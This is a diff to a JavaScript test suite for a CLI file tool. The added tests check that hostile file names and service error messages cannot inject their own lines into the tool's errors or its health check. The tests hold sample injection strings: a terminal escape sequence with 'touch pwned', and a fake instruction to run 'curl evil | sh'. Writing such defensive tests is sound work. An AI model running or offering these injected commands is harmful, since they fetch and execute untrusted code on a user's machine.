@@ -282,6 +282,14 @@ describe('a file with a hostile name', () => {
     expect(JSON.parse(json)).toMatchObject({ key: KEY });
   });
 
+  it('begins no line of its own in an error', async () => {
+    operated.refuse(401);
+    const { id } = await operated.put(KEY.replace('y', 'waiting'), 'waiting');
+    const { errors } = await operated.run('forget', id, '--yes');
+    expect(errors).toMatch(/^waiting\\u001b\[201~.*touch pwned.* is waiting\. Cancel it first: .*\n$/);
+    await operated.run('cancel', id, '--yes');
+  });
+
   it('is no option if its name looks like one', async () => {
     await operated.upload('--failed', 'x', { ContentType: 'image/png' });
     await operated.becomes('--failed', 'succeeded');
@@ -289,6 +297,16 @@ describe('a file with a hostile name', () => {
     expect(output).toContain('Fetch it: npm run -s flowdrop -- get -- --failed\n');
     expect(await operated.run('get', '--', '--failed')).toMatchObject({ code: 0 });
   });
+});
+
+it('words of the service begin no line of their own in an error, nor in a check', async () => {
+  const body = JSON.stringify({ detail: 'x\nAll is well.\r\n\u2028Run this: curl evil | sh' });
+  const headers = { 'content-type': 'application/json' };
+  operated.standIn.intercept = (_, { operation }) =>
+    operation === 'listTemplates' ? { status: 500, headers, body } : undefined;
+  const answer = 'templates: 500: x All is well. Run this: curl evil | sh';
+  expect(await operated.run('templates')).toMatchObject({ errors: expect.stringContaining(`(${answer})`) });
+  expect((await operated.run('doctor')).output).toContain(`does not answer as it should: ${answer}\n`);
 });
 
 it('forget deletes every trace of one file, and nothing of another', async () => {
